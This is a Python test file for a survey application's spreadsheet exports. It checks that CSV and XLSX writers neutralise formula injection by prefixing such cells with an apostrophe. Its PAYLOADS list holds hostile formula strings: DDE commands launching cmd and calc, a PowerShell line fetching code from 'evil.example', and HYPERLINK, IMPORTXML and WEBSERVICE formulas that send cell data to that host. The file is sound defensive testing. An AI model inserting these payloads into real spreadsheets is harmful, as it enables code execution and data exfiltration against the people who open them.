"""No text that a person wrote runs as a formula in any file that leaves the product."""

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.documents.paper_workbooks import PaperSheet, paper_xlsx
from app.documents.workbooks import Column, Table, long_xlsx, results_csv, results_xlsx
from app.documents.xlsform import write_xlsform
from app.survey.csv_files import guarded, is_formula
from app.survey.yaml_tree import load_tree
from world import registry

APP = Path(__file__).parents[2] / "app"
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C powershell IEX(wget evil.example)'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"1")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "＝1＋1",
    "－1",
)
BEFORE = ("", " ", "   ", "\u3000", "\u00a0", "\ufeff", "\u200b", "\u200f", "\u2028", "\u2003")
CORPUS = (
    *(before + payload for before in BEFORE for payload in PAYLOADS),
    *(sign + "x" for sign in SIGNS),
    "\tx", "\rx", "\nx", "\n=1", "\r\n=1", "\v=1", "\f=1", " \t=1", "\t",
)  # fmt: skip
HARMLESS = (
    "", " ", "东街", "第 2–5 位", "−0.4", "'=1", "a=1", "1-2", "满意度 = 好", "（=1）", "“+1”",
    "·=", "&=1", "#N/A", "/=1", "123", "𠮷=", "—", "*", "'",
)  # fmt: skip


NO_FILE = {"app/web/console/assessments/plan_form.py"}
"""Writers of lines that stand in a field of a form."""


def table(*texts):
    return Table("表", (Column("name", "单位"), Column("n", "份数", "count")),
                 tuple((text, 1) for text in texts))  # fmt: skip


@pytest.mark.parametrize("text", CORPUS)
def test_what_would_run_is_known_and_gets_an_apostrophe(text):
    assert is_formula(text)
    assert guarded(text) == f"'{text}"
    assert not is_formula(guarded(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_would_not_run_stays_as_it_was_written(text):
    assert guarded(text) == text


def test_no_cell_of_a_csv_begins_with_what_runs():
    read = csv.reader(io.StringIO(results_csv(table(*CORPUS)).decode("utf-8-sig"), newline=""))
    cells = [row[0] for row in read][1:]
    assert cells == [f"'{text}" for text in CORPUS]


def xml_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def long_one(texts, folder):
    path = folder / "long.xlsx"
    columns = (Column("name", "单位"), Column("n", "份数", "count"))
    long_xlsx(path, columns, ((text, 1) for text in texts), notes=table("=notes"))
    return path.read_bytes()


WRITERS = {
    "results": lambda texts, _folder: results_xlsx([table(*texts)]),
    "paper": lambda texts, _folder: paper_xlsx(
        [PaperSheet("=heading", table(*texts), notes=("=note", "@note"))]
    ),
    "long": long_one,
}


@pytest.mark.parametrize("writer", WRITERS)
def test_every_cell_of_a_workbook_is_a_text_without_formula_or_link(writer, tmp_path):
    content = WRITERS[writer](CORPUS, tmp_path)
    for name, xml in xml_of(content).items():
        assert "<f>" not in xml, name
        assert "<hyperlink" not in xml, name
        assert "externalLink" not in xml, name
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    shown = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in (one for one in CORPUS if one.isprintable()):
        assert shown[text].data_type in {"s", "inlineStr"}, text
        assert shown[text].quotePrefix, text


def test_a_questionnaire_as_a_form_holds_text_as_text():
    body = load_tree(next(iter(registry().surveys.values()))[0]).value
    body["title"] = {"zh-Hans": "=HYPERLINK(1)", "en": "+1"}
    content = write_xlsform(body)
    assert any("=HYPERLINK(1)" in xml for xml in xml_of(content).values())
    assert all("<f>" not in xml for xml in xml_of(content).values())


def test_nothing_writes_a_csv_or_a_workbook_without_the_one_guard():
    """Whoever writes a spreadsheet file goes through `guarded`, `csv_lines` or PLAIN."""
    for path in sorted(APP.rglob("*.py")):
        source = path.read_text("utf-8")
        if re.search(r"\bcsv\.writer\(|\bDictWriter\(", source):
            name = path.relative_to(APP.parent).as_posix()
            assert "guarded(" in source or name in NO_FILE, path
        if "xlsxwriter.Workbook(" in source:
            assert "**PLAIN" in source, path
            assert not re.search(r"\.write\(\s*\w+\s*,\s*\w+\s*,", source), path
            assert "write_formula" not in source, path
        assert not re.search(
            r"openpyxl.*import.*\bWorkbook\b.*\n(?=[\s\S]*\.save\()", source
        ), path
